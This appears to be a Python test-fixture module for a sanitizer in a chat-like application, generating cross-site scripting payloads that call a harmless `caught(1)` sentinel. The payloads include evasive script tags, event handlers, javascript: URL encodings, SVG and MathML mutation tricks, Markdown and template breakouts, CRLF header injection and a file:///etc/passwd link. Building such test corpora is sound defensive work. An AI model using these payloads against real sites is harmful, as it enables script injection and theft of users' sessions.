"""Words that would like to be a script: what somebody may write into any field. Each calls `caught` if it ever runs."""

from __future__ import annotations

from collections.abc import Iterator

CALL = "caught(1)"


def payloads() -> list[str]:
    """All classes, each once, in a fixed order."""
    kinds = (tags(), attributes(), addresses(), svg(), mathml(), documents(), markdown(), unicode(), breakouts(), own())
    return list(dict.fromkeys(payload for kind in kinds for payload in kind))


def tags() -> Iterator[str]:
    """Elements that run or load something, in every spelling a parser forgives."""
    for open_, close in (
        ("<script>", "</script>"),
        ("<ScRiPt>", "</sCrIpT>"),
        ("<script\t>", "</script >"),
        ("<script/x>", "</script>"),
        ("<script\n>", "</script\n>"),
        ("<<script>", "</script>"),
        ("<scr<script>ipt>", "</scr</script>ipt>"),
        ("<script type=module>", "</script>"),
        ("</title><script>", "</script>"),
        ("</textarea><script>", "</script>"),
        ("</style><script>", "</script>"),
        ("--><script>", "</script><!--"),
        ("]]><script>", "</script>"),
        ("<noscript><p title='</noscript><script>", "</script>'>"),
        ("<template><script>", "</script></template>"),
        ("<xmp><script>", "</script></xmp>"),
    ):
        yield f"{open_}{CALL}{close}"
    for tag in ("iframe", "frame", "embed", "object", "portal", "fencedframe"):
        for name in ("src", "data", "srcdoc"):
            yield f'<{tag} {name}="javascript:{CALL}"></{tag}>'
    yield "<script src=//elsewhere.example/a.js></script>"
    yield "<script src=data:text/javascript,caught(1)></script>"
    yield "<link rel=stylesheet href=//elsewhere.example/a.css>"
    yield "<link rel=import href=data:text/html,<script>parent.caught(1)</script>>"
    yield "<base href=//elsewhere.example/>"
    yield "<meta http-equiv=refresh content='0;url=javascript:caught(1)'>"
    yield "<meta http-equiv=refresh content='0;url=//elsewhere.example'>"
    yield "<style>@import '//elsewhere.example/a.css';</style>"
    yield "<style>*{background:url(//elsewhere.example/b)}</style>"
    yield f"<form action=javascript:{CALL}><button>press</button></form>"
    yield f"<button form=x formaction=javascript:{CALL}>press</button>"
    yield f"<isindex type=image src=x onerror={CALL}>"


def attributes() -> Iterator[str]:
    """Handlers that fire by themselves, with and without quotes, spaces and endings."""
    for start in (
        "<img src=x onerror=",
        "<img/src=x/onerror=",
        "<IMG SRC=x OnErRoR=",
        "<img src=x\tonerror\n=\n",
        "<img src='x'onerror=",
        "<image src=x onerror=",
        "<video><source onerror=",
        "<audio src=x onerror=",
        "<video src=x onloadstart=",
        "<video poster=x onerror=",
        "<input autofocus onfocus=",
        "<select autofocus onfocus=",
        "<textarea autofocus onfocus=",
        "<keygen autofocus onfocus=",
        "<body onload=",
        "<body onpageshow=",
        "<details open ontoggle=",
        "<marquee onstart=",
        "<div onpointerover=",
        "<a onmouseover=",
        "<p style=animation-name:turn onanimationstart=",
        "<p tabindex=1 autofocus onfocusin=",
        "<dialog open onclose=",
        "<div contenteditable autofocus onfocus=",
        "<object data=x onerror=",
        "<link rel=preload href=x onerror=",
    ):
        yield f"{start}{CALL}>"
        yield f'{start}"{CALL}" x'
    for wrapped in ("&#99;aught(1)", "&#x63;aught(1)", "\\u0063aught(1)", "window['caught'](1)", "caught`1`"):
        yield f"<img src=x onerror={wrapped}>"


def addresses() -> Iterator[str]:
    """Addresses that are a script, in every case and coding, as a Markdown link, in angle brackets and bare."""
    schemes = (
        "javascript:",
        "JaVaScRiPt:",
        "JAVASCRIPT:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        " javascript:",
        "\x01javascript:",
        "\u00a0javascript:",
        "javascript&colon;",
        "javascript&#58;",
        "javascript&#x3a;",
        "javascript%3A",
        "&#106;avascript:",
        "\\x6aavascript:",
        "ja\u200bvascript:",
        "javascript\uff1a",
        "\uff4aavascript:",
        "javascript://x.example/%0a",
        "javascript:https://x.example/;",
        "vbscript:",
        "livescript:",
        "view-source:javascript:",
        "feed:javascript:",
        "jar:javascript:",
    )
    for scheme in schemes:
        yield f"[press here]({scheme}{CALL})"
        yield f"<{scheme}{CALL}>"
    for scheme in schemes[:6]:
        yield f"{scheme}{CALL}"
        yield f"[press][1]\n\n[1]: {scheme}{CALL}"
        yield f"![picture]({scheme}{CALL})"


def svg() -> Iterator[str]:
    for inside in (
        f"<script>{CALL}</script>",
        f"<script href=data:,{CALL} />",
        f"<animate onbegin={CALL} attributeName=x dur=1s>",
        f"<set onbegin={CALL} attributeName=x to=1>",
        f"<a xlink:href=javascript:{CALL}><text y=20>press</text></a>",
        f"<a><animate attributeName=href values=javascript:{CALL} /><text y=20>press</text></a>",
        "<use href=data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x />",
        "<image href=//elsewhere.example/a.png />",
        f"<foreignObject><img src=x onerror={CALL}></foreignObject>",
        f"<style><img src=x onerror={CALL}></style>",
        f"<title><img src=x onerror={CALL}></title>",
        f"<desc><![CDATA[</desc><script>{CALL}</script>]]>",
        "<feImage href=//elsewhere.example/a />",
    ):
        yield f"<svg>{inside}</svg>"
    yield f"<svg onload={CALL}>"
    yield f"<svg/onload={CALL}//"
    yield f"<svg><svg onload={CALL}>"


def mathml() -> Iterator[str]:
    yield f"<math href=javascript:{CALL}>press</math>"
    yield f"<math><mi xlink:href=javascript:{CALL}>press</mi></math>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>"
    yield f"<math><annotation-xml encoding=text/html><img src=x onerror={CALL}></annotation-xml></math>"
    yield f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={CALL}>"
    yield f"<math><maction actiontype=statusline xlink:href=javascript:{CALL}>press</maction></math>"


def documents() -> Iterator[str]:
    for kind in (
        "text/html",
        "text/html;base64",
        "image/svg+xml",
        "application/xhtml+xml",
        "text/xml",
        "text/javascript",
    ):
        yield f"data:{kind},<script>parent.{CALL}</script>"
        yield f"[press](data:{kind},<script>{CALL}</script>)"
        yield f"[press](DaTa:{kind},%3Cscript%3E{CALL}%3C/script%3E)"
    yield "[press](blob:https://x.example/0)"
    yield "[press](filesystem:https://x.example/temporary/a.html)"
    yield "[press](file:///etc/passwd)"


def markdown() -> Iterator[str]:
    """Marks within marks, and ends that belong to something else."""
    yield from (
        f'[a](https://x.example/"onmouseover="{CALL})',
        f"[a](https://x.example/'onmouseover='{CALL})",
        f'[a](https://x.example/ "title" onmouseover={CALL})',
        f"[a]( javascript:{CALL} )",
        f"[a](<javascript:{CALL}>)",
        f"[a](https://x.example/)(javascript:{CALL})",
        f"[[a](https://x.example)](javascript:{CALL})",
        f"[<img src=x onerror={CALL}>](https://x.example)",
        f"[a](https://javascript:{CALL}@x.example)",
        f"![<img src=x onerror={CALL}>](https://x.example/a.png)",
        f"https://x.example/<script>{CALL}</script>",
        f'https://x.example/"><img src=x onerror={CALL}>',
        f"https://x.example/#javascript:{CALL}",
        f"https://x.example/?q=`<img src=x onerror={CALL}>`",
        f"`<img src=x onerror={CALL}>`",
        f"```html\n<img src=x onerror={CALL}>\n```",
        f"```<img src=x onerror={CALL}>\ncode\n```",
        f'```js"><img src=x onerror={CALL}>\ncode\n```',
        f"> <img src=x onerror={CALL}>",
        f"- <img src=x onerror={CALL}>",
        f"1. <svg onload={CALL}>",
        f"**<img src=x onerror={CALL}>**",
        f"~~**_<svg onload={CALL}>_**~~",
        f"\\<img src=x onerror={CALL}\\>",
        f"<https://x.example/<script>{CALL}</script>>",
        f"<!-- --><img src=x onerror={CALL}><!-- -->",
    )


def unicode() -> Iterator[str]:
    for sign in ("\ufeff", "\u200b", "\u2028", "\u2029", "\u202e", "\u0085", "\u00ad", "\ufffe", "\U000e0001"):
        yield f"{sign}<img src=x onerror={CALL}>"
        yield f"<{sign}script>{CALL}</script>"
    yield f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e"
    yield f"\u2039img src=x onerror={CALL}\u203a"
    yield f"%3Cimg%20src=x%20onerror={CALL}%3E"
    yield f"&lt;img src=x onerror={CALL}&gt;"
    yield f"&amp;lt;img src=x onerror={CALL}&amp;gt;"
    yield f"&#60;img src=x onerror={CALL}&#62;"
    yield f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-"
    yield f"\\u003cimg src=x onerror={CALL}\\u003e"
    yield f"<img src=x onerror={CALL}\u3000>"


def breakouts() -> Iterator[str]:
    """Out of an attribute, a string, an object or a template, wherever somebody forgot to close one."""
    yield from (
        f'"><img src=x onerror={CALL}>',
        f"'><img src=x onerror={CALL}>",
        f'" autofocus onfocus={CALL} x="',
        f"' autofocus onfocus={CALL} x='",
        f'"-{CALL}-"',
        f"'-{CALL}-'",
        f"`-{CALL}-`",
        f"${{{CALL}}}",
        f"{{{{constructor.constructor('{CALL}')()}}}}",
        f"<%= {CALL} %>",
        f'\\";{CALL};//',
        f"</script><script>{CALL}</script>",
        f"*/{CALL}/*",
        "__proto__",
        "constructor",
        '{"$$typeof":"x","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=caught(1)>"}}',
        f"\r\nContent-Type: text/html\r\n\r\n<script>{CALL}</script>",
    )


def own() -> Iterator[str]:
    """The signs that mean something here."""
    yield f'<@U0000000000000001"><img src=x onerror={CALL}>'
    yield f"<@U0000000000000001|<img src=x onerror={CALL}>>"
    yield f"<#C0000000000000001|<img src=x onerror={CALL}>>"
    yield f'<#C0000000000000001|" onclick="{CALL}>'
    yield f"<#C0000000000000001|javascript:{CALL}>"
    yield f"<!group^G0000000000000001|<svg onload={CALL}>>"
    yield f":tada:<img src=x onerror={CALL}>:tada:"
    yield f"/rooms/javascript:{CALL}"
